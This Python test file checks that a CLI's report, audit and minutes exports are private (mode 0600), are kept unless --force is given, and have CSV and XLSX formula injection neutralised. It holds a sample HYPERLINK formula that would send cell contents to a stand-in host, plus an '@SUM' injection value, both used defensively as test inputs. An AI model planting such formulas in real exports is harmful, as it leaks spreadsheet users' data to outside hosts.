"""Files the CLI writes: 0600 from creation, kept unless --force, CSV cells defused."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest
from openpyxl import load_workbook

from bot.cli.files import csv_cell
from bot.cli.main import main
from tests.conftest import TEST_KEY
from tests.linknet.test_linknet_e2e import AT, cli_env  # noqa: F401  (fixture)
from tests.linknet.test_linknet_figures import october
from tests.plans.test_plans_e2e import planned, world  # noqa: F401  (fixtures)

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"見る")'


@pytest.fixture(autouse=True)
def open_umask():
    """With umask 0 a plain open() would make 0666: the mode must come from the helper itself."""
    old = os.umask(0)
    yield
    os.umask(old)


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_csv_cell_defuses_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("R8-0001") == "R8-0001"
    assert csv_cell("12") == "12"
    assert csv_cell(None) == ""
    assert csv_cell(3) == "3"


def test_report_csv_and_xlsx_are_private_and_kept(cli_env, org, tmp_path, capsys):  # noqa: F811
    october(org, n=4)
    outdir = tmp_path / "out"
    outdir.mkdir()
    for fmt in ("csv", "xlsx"):
        out = outdir / f"fy2026.{fmt}"
        args = ["report", "fy", "2026", "--format", fmt, "--output", str(out), *AT]
        assert main(args) == 0
        assert mode(out) == 0o600
        before = out.read_bytes()
        capsys.readouterr()
        assert main(args) == 2
        err = capsys.readouterr().err.strip()
        assert err == f"{out} はすでにあります。上書きするときは --force を付けてください。"
        assert out.read_bytes() == before
        out.chmod(0o644)
        assert main([*args, "--force"]) == 0
        assert mode(out) == 0o600  # a new file replaced the old one
    assert sorted(p.name for p in outdir.iterdir()) == ["fy2026.csv", "fy2026.xlsx"]


def test_audit_export_defuses_the_as_text_and_is_private(cli_env, org, tmp_path, capsys):  # noqa: F811
    october(org, n=4)
    # A refused --official report records the operator's --as text as the actor.
    assert main(["report", "fy", "2026", "--official", "--as", FORMULA[:32], *AT]) == 2
    xlsx_as = ["report", "fy", "2026", "--format", "xlsx", "--official", "--as", "@SUM(A1)", *AT]
    assert main(xlsx_as) == 2
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "audit.csv"
    export = ["audit", "export", "--since", "2026-11-01", "--output", str(target)]
    assert main(export) == 0
    assert mode(target) == 0o600
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    actors = [r[2] for r in rows[1:] if r[4] == "linknet.report_official"]
    assert actors == ["'" + FORMULA[:32], "'@SUM(A1)"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    before = target.read_bytes()
    capsys.readouterr()
    assert main(export) == 2
    assert "--force" in capsys.readouterr().err
    assert target.read_bytes() == before
    assert main([*export, "--force"]) == 0
    assert mode(target) == 0o600
    assert [p.name for p in target.parent.iterdir()] == ["audit.csv"]  # no leftover part file


def test_report_xlsx_never_holds_a_formula(cli_env, org, tmp_path):  # noqa: F811
    october(org, n=4)
    out = tmp_path / "r.xlsx"
    assert main(["report", "fy", "2026", "--format", "xlsx", "--output", str(out), *AT]) == 0
    sheet = load_workbook(out).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_minutes_export_is_private_and_kept(bot, planned, monkeypatch, capsys, tmp_path, db_url):  # noqa: F811
    monkeypatch.setenv("TSUNAGI_DATABASE_URL", db_url)
    monkeypatch.setenv("TSUNAGI_ENCRYPTION_KEY", TEST_KEY)
    monkeypatch.delenv("TSUNAGI_OLD_ENCRYPTION_KEYS", raising=False)
    target = tmp_path / "minutes.md"
    args = ["minutes", "export", str(planned["meeting"]), "--output", str(target)]
    assert main(args) == 0
    assert mode(target) == 0o600
    target.write_text("控え", encoding="utf-8")
    capsys.readouterr()
    assert main(args) == 2
    assert "すでにあります" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "控え"
    assert main([*args, "--force"]) == 0
    assert target.read_text(encoding="utf-8").startswith("# ")
    assert mode(target) == 0o600
